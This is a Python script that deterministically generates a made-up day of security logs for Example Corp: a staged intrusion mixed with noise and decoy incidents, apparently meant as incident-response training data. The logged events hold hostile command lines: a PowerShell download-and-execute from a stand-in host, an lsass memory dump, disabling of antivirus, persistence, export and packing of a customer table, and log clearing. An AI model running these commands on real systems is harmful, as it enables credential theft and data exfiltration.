#!/usr/bin/env python3
"""Writes the events of a made-up intrusion at Example Corp, with its noise, as JSON Lines.

    generate.py [FILE] [--until HH:MM]     (standard output without FILE; the whole day without a time)

The same bytes every time, on every machine: a small generator of its own draws the noise, no clock is read.
The story, on 10 March 2026 (UTC):

    07:52  Finance in Frankfurt opens an invoice; the document starts a script (WS-FIN-07).
    07:53  The script asks the name of its server once a minute, all morning: a hundred repeats of one finding.
    08:41  The passwords of the machine are dumped.
    09:06  With an administrator's name the intruder comes to the payments server (PAY-DB-01).
    09:32  The customer table is exported, packed, hidden, and copied to a storage provider.
    10:05  The log of the server is cleared.

Around it: a worm from a USB stick in the plant at Lyon, which is another incident; the vulnerability scanner, known
and suppressed; remote support and failed logons, noted; the power failure at the plant, out of scope; a break-in at a
partner university, which its own team is told of; and three lines that a full disk cut off.
"""
import argparse
import json
import sys
from datetime import datetime, timedelta, timezone

START = datetime(2026, 3, 10, 6, 0, tzinfo=timezone.utc)
LENGTH = 9 * 3600          # seconds of the working day
NOISE = 4400               # events that mean nothing

SYSMON = "Microsoft-Windows-Sysmon/Operational"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SYSTEM32 = "C:\\Windows\\System32\\"
PROGRAMS = [
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe --type=renderer", "explorer.exe"),
    (OFFICE + "EXCEL.EXE", "EXCEL.EXE /dde", "explorer.exe"),
    (OFFICE + "OUTLOOK.EXE", "OUTLOOK.EXE", "explorer.exe"),
    (SYSTEM32 + "svchost.exe", "svchost.exe -k netsvcs -p", "services.exe"),
    (SYSTEM32 + "conhost.exe", "conhost.exe 0xffffffff -ForceV1", "cmd.exe"),
    (SYSTEM32 + "taskhostw.exe", "taskhostw.exe KEYROAMING", "svchost.exe"),
    (SYSTEM32 + "RuntimeBroker.exe", "RuntimeBroker.exe -Embedding", "svchost.exe"),
    ("C:\\Program Files\\Teams\\Teams.exe", "Teams.exe --type=utility", "explorer.exe"),
]
NAMES = ["outlook.office365.com", "teams.microsoft.com", "www.example.com", "intranet.corp.example.com", "ntp.example.com",
         "update.example.org", "news.example.net", "crl.example.org"]
USERS = ["m.keller", "j.brandt", "a.rossi", "s.dubois", "l.novak", "p.jensen", "k.ivanova", "t.okafor", "r.silva", "h.tanaka"]


class Dice:
    """A linear congruential generator (Knuth's MMIX constants), so that no version of Python changes the events."""

    def __init__(self, seed):
        self.state = seed

    def below(self, bound):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) % 2**64
        return (self.state >> 33) % bound

    def pick(self, items):
        return items[self.below(len(items))]


def machines():
    """Workstations and servers with their address: name -> address."""
    out = {f"WS-FIN-{n:02}": f"10.20.7.{100 + n}" for n in range(1, 13)}
    out.update({f"WS-MUC-{n:02}": f"10.20.8.{100 + n}" for n in range(1, 13)})
    out.update({f"WS-NYC-{n:02}": f"10.21.3.{100 + n}" for n in range(1, 13)})
    out.update({"DC-01": "10.20.1.10", "FILE-01": "10.20.1.20", "PAY-DB-01": "10.20.40.11", "PAY-WEB-01": "10.20.40.21",
                "PLANT-ENG-01": "10.30.2.11", "PLANT-ENG-02": "10.30.2.12"})
    return out


def full_name(host):
    for prefix, domain in (("PAY-", "pay.example.com"), ("PLANT-", "lyon.plant.example.com"), ("WS-NYC-", "us.example.com")):
        if host.startswith(prefix):
            return f"{host}.{domain}"
    return f"{host}.corp.example.com"


def windows(host, channel, event_id, **fields):
    return {"Hostname": full_name(host), "Channel": channel, "EventID": event_id, **fields}


def process(host, user, image, command, parent):
    if "\\" not in parent:
        parent = SYSTEM32 + parent
    return windows(host, SYSMON, 1, User=f"EXAMPLE\\{user}", Image=image, CommandLine=command, ParentImage=parent)


def alert(source, target, signature, category, severity):
    return {"event_type": "alert", "sensor": "ids-frankfurt", "src_ip": source, "dest_ip": target,
            "alert": {"signature": signature, "category": category, "severity": severity}}


class Scenario:
    def __init__(self):
        self.dice = Dice(20260310)
        self.hosts = machines()
        self.events = []

    def at(self, clock, event):
        """`clock` is "09:06:12", or seconds since the start."""
        if isinstance(clock, str):
            hours, minutes, seconds = (int(part) for part in clock.split(":"))
            clock = (hours * 60 + minutes) * 60 + seconds - 6 * 3600
        moment = START + timedelta(seconds=clock, milliseconds=self.dice.below(1000))
        stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03}Z"
        name = "timestamp" if "event_type" in event else "@timestamp"
        self.events.append((stamp, len(self.events), {name: stamp, **event}))

    def noise(self):
        for _ in range(NOISE):
            host = self.dice.pick(sorted(self.hosts))
            user = self.dice.pick(USERS)
            kind = self.dice.below(10)
            if kind < 4:
                image, command, parent = self.dice.pick(PROGRAMS)
                event = process(host, user, image, command, parent)
            elif kind < 6:
                event = windows(host, SYSMON, 22, User=f"EXAMPLE\\{user}", QueryName=self.dice.pick(NAMES),
                                Image=PROGRAMS[0][0])
            elif kind < 8:
                event = windows(host, SYSMON, 3, User=f"EXAMPLE\\{user}", Image=PROGRAMS[0][0], Initiated="true",
                                SourceIp=self.hosts[host], DestinationIp=f"192.0.2.{self.dice.below(200) + 1}",
                                DestinationPort=443, Protocol="tcp")
            elif kind < 9:
                event = windows(host, "Security", 4624, TargetUserName=user, TargetDomainName="EXAMPLE", LogonType=2,
                                SubjectUserName=f"{host}$", WorkstationName=host, IpAddress="127.0.0.1")
            else:
                event = {"event_type": "flow", "sensor": "ids-frankfurt", "src_ip": self.hosts[host],
                         "dest_ip": f"192.0.2.{self.dice.below(200) + 1}", "proto": "TCP"}
            self.at(self.dice.below(LENGTH), event)

    def known_and_harmless(self):
        for n in range(220):  # the vulnerability scanner, every morning
            target = self.hosts[self.dice.pick(sorted(self.hosts))]
            self.at(900 + n * 11, alert("10.20.5.5", target, "SCAN many ports", "Detection of a Network Scan", 2))
        helped = [f"WS-MUC-{n:02}" for n in (2, 5, 9)] + [f"WS-NYC-{n:02}" for n in (3, 8)]
        for _ in range(45):
            user = self.dice.pick(USERS)
            self.at(self.dice.below(LENGTH), process(self.dice.pick(helped), user, "C:\\Program Files\\AnyDesk\\AnyDesk.exe",
                                                     "AnyDesk.exe --control", "explorer.exe"))
        for _ in range(60):
            host = self.dice.pick(["DC-01", "FILE-01"])
            self.at(self.dice.below(LENGTH), windows(host, "Security", 4625, TargetUserName=self.dice.pick(USERS),
                                                     TargetDomainName="EXAMPLE", LogonType=3, IpAddress="-"))
        for n in range(8):
            self.at(self.dice.below(LENGTH), process("WS-NYC-11", "r.silva", "C:\\Users\\r.silva\\Downloads\\viewer.exe",
                                                     "viewer.exe", "explorer.exe"))
        self.at("13:15:20", {"Operation": "New-InboxRule", "UserId": "h.tanaka@example.com", "ClientIP": "10.21.3.105",
                             "Workload": "Exchange", "Parameters": "ForwardTo=h.tanaka@mail.example.net",
                             "MailboxOwnerUPN": "h.tanaka@example.com"})

    def foothold(self):
        host, user = "WS-FIN-07", "m.keller"
        script = "C:\\Users\\m.keller\\AppData\\Local\\Temp\\invoice_8841.js"
        power = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
        self.at("07:51:40", process(host, user, OFFICE + "WINWORD.EXE", "WINWORD.EXE invoice_8841.docm", OFFICE + "OUTLOOK.EXE"))
        self.at("07:52:10", process(host, user, SYSTEM32 + "wscript.exe", f"wscript.exe {script}", OFFICE + "WINWORD.EXE"))
        self.at("07:52:14", process(host, user, power, "powershell.exe -nop IEX (New-Object Net.WebClient)"
                                    ".DownloadString('http://a1.cdn-telemetry.example/s')", SYSTEM32 + "wscript.exe"))
        for n in range(110):
            self.at(n * 60 + 6780, windows(host, SYSMON, 22, User=f"EXAMPLE\\{user}", QueryName="a1.cdn-telemetry.example",
                                           Image=power))
        self.at("07:58:02", process(host, user, SYSTEM32 + "whoami.exe", "whoami /all", power))
        self.at("07:58:09", process(host, user, SYSTEM32 + "systeminfo.exe", "systeminfo", power))
        self.at("07:59:30", process(host, user, SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', power))
        self.at("08:20:11", process(host, user, SYSTEM32 + "schtasks.exe",
                                    "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.ps1 /sc onlogon", power))
        self.at("08:20:40", windows(host, SYSMON, 13, EventType="SetValue", User=f"EXAMPLE\\{user}", Image=power,
                                    TargetObject="HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
                                    Details="C:\\Users\\Public\\u.exe"))
        self.at("08:41:02", windows(host, SYSMON, 10, SourceImage=SYSTEM32 + "rundll32.exe", GrantedAccess="0x1fffff",
                                    TargetImage=SYSTEM32 + "lsass.exe", SourceUser=f"EXAMPLE\\{user}"))
        self.at("08:41:03", process(host, user, SYSTEM32 + "rundll32.exe",
                                    "rundll32.exe comsvcs.dll, MiniDump 712 C:\\Users\\Public\\m.dmp full", power))
        self.at("08:41:05", windows(host, SYSMON, 11, Image=SYSTEM32 + "rundll32.exe", User=f"EXAMPLE\\{user}",
                                    TargetFilename="C:\\Users\\Public\\m.dmp"))

    def payments(self):
        source, host, user = "WS-FIN-07", "PAY-DB-01", "adm-schmidt"
        command = SYSTEM32 + "cmd.exe"
        self.at("09:05:51", windows(source, "Security", 4648, SubjectUserName="m.keller", SubjectDomainName="EXAMPLE",
                                    TargetUserName=user, TargetDomainName="EXAMPLE", TargetServerName="PAY-DB-01"))
        self.at("09:06:12", windows(host, "Security", 4624, TargetUserName=user, TargetDomainName="EXAMPLE", LogonType=3,
                                    WorkstationName=source, IpAddress=self.hosts[source]))
        self.at("09:06:15", windows(host, "System", 7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe"))
        self.at("09:10:30", process(host, user, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                                    "powershell Set-MpPreference -DisableRealtimeMonitoring $true", command))
        self.at("09:32:04", process(host, user, "C:\\Program Files\\SQL\\Tools\\bcp.exe",
                                    "bcp shop.dbo.customers out C:\\Windows\\Temp\\c.dat -c -T", command))
        self.at("09:40:18", process(host, user, "C:\\Windows\\Temp\\7z.exe", "7z.exe a -pS3cret2026 c.7z c.dat", command))
        self.at("09:41:00", windows(host, SYSMON, 11, Image="C:\\Windows\\Temp\\7z.exe", User=f"EXAMPLE\\{user}",
                                    TargetFilename="C:\\$Recycle.Bin\\S-1-5-18\\c.7z"))
        self.at("09:55:33", process(host, user, "C:\\Windows\\Temp\\svc.exe",
                                    "svc.exe copy C:\\$Recycle.Bin\\S-1-5-18 store:c --transfers 8", command))
        self.at("10:02:44", alert(self.hosts[source], "203.0.113.66", "C2 beacon of a known campaign",
                                  "Malware Command and Control Activity Detected", 1))
        self.at("10:05:10", windows(host, "Security", 1102, SubjectUserName=user, SubjectDomainName="EXAMPLE"))

    def elsewhere(self):
        plant = "PLANT-ENG-02"
        self.at("11:20:05", process(plant, "t.okafor", SYSTEM32 + "wscript.exe", "wscript.exe E:\\drawings.vbs", "explorer.exe"))
        self.at("11:31:47", {"action": "program-download", "approved": "false", "host": full_name(plant), "controller": "press-4",
                             "user": "t.okafor"})
        for n in range(6):
            self.at(f"12:0{n}:00", {"facility": "Lyon", "ups": {"status": "on-battery", "charge": 98 - n}})
        for n in range(3):
            self.at(f"10:3{n}:15", alert("198.51.100.23", "198.51.100.40", "Web shell answers",
                                         "Successful Administrator Privilege Gain", 1))

    def lines(self, until):
        """The lines up to a time of day; an earlier time gives a beginning of what a later one gives."""
        self.noise()
        self.known_and_harmless()
        self.foothold()
        self.payments()
        self.elsewhere()
        lines = [(stamp, json.dumps(event, separators=(",", ":")))
                 for stamp, _, event in sorted(self.events, key=lambda e: e[:2])]
        for place in (1200, 2400, 3600):  # what a full disk does to a log
            stamp, text = lines[place]
            lines.insert(place, (stamp, text[: len(text) // 2]))
        return [text for stamp, text in lines if stamp[11:16] < until]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("file", nargs="?", metavar="FILE")
    parser.add_argument("--until", default="24:00", metavar="HH:MM")
    arguments = parser.parse_args()
    text = "".join(line + "\n" for line in Scenario().lines(arguments.until))
    if arguments.file:
        with open(arguments.file, "w", encoding="utf-8", newline="\n") as out:
            out.write(text)
    else:
        sys.stdout.write(text)


if __name__ == "__main__":
    main()
